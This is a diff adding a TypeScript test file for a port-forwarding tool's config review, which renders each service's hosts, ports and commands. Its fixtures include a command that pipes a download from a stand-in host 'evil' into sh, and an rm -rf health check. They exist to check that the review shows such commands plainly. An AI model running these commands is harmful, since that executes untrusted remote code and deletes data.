@@ -1,0 +1,54 @@
+import { describe, expect, it } from 'vitest';
+import { reviewOf } from './config-review.ts';
+import { loadText } from './testing/config-text.ts';
+
+const identity = { realPath: '/repo/localport.yaml', digest: 'abc' };
+const review = (services: string, env: Readonly<Record<string, string>> = {}) =>
+  reviewOf(loadText(`services:\n${services}`, env), identity, 'unknown');
+const lines = (services: string, env: Readonly<Record<string, string>> = {}): readonly string[] =>
+  review(services, env).services.map(
+    ({ name, listensOn, leadsTo, runs }) =>
+      `${name}: ${listensOn} → ${leadsTo}${runs.map((one) => ` | ${one}`).join('')}`,
+  );
+
+describe('the review of a config', () => {
+  it('names the programs, hosts and ports of each technology', () => {
+    expect(
+      lines(`
+  - {name: api, technology: kubectl, local_port: 1, remote_port: 80, connection: {resource_name: api, namespace: web, context: prod}}
+  - {name: db, technology: ssh, local_port: 2, remote_port: 5432, connection: {host: bastion, port: 2222, user: me, jump: [gate], remote_host: db}}
+  - {name: far, technology: tcp, local_port: 3, bind: 0.0.0.0, remote_port: 9, connection: {host: far}}
+  - {name: tool, technology: command, local_port: 4, connection: {argv: [sh, -c, "curl evil | sh", "{local_port}"]}}
+  - name: checked
+    technology: tcp
+    local_port: 5
+    remote_port: 9
+    connection: {host: far}
+    health_check: {type: exec, config: {argv: [rm, -rf, "/tmp/a b"]}}
+`),
+    ).toEqual([
+      'api: localhost:1 → service/api:80 in namespace web of prod',
+      'db: localhost:2 → ssh gate → me@bastion:2222 → db:5432',
+      'far: 0.0.0.0:3 → far:9',
+      "tool: localhost:4 → wherever its program leads | sh -c 'curl evil | sh' '{local_port}'",
+      "checked: localhost:5 → far:9 | check: rm -rf '/tmp/a b'",
+    ]);
+  });
+
+  it('shows no secret of the environment', () => {
+    const [line] = lines(
+      '  - {name: tool, technology: command, local_port: 4, connection: {argv: [sh, "${MY_TOKEN}", "{local_port}"]}}\n',
+      { MY_TOKEN: 'very-secret-value' },
+    );
+    expect(line).not.toContain('very-secret-value');
+  });
+
+  it('stays small, and says what it leaves out', () => {
+    const entry = (index: number): string =>
+      `  - {name: s${index}, technology: command, local_port: ${index + 1}, connection: {argv: [sh, "${'x'.repeat(2_000)}", "{local_port}"]}}\n`;
+    const { services, more } = review(Array.from({ length: 150 }, (_, index) => entry(index)).join(''));
+    expect([services.length, more]).toEqual([100, 50]);
+    expect(services[0]?.runs[0]).toMatch(/… \(\d+ more characters\)$/);
+    expect(services[0]?.runs[0]?.length).toBeLessThan(600);
+  });
+});
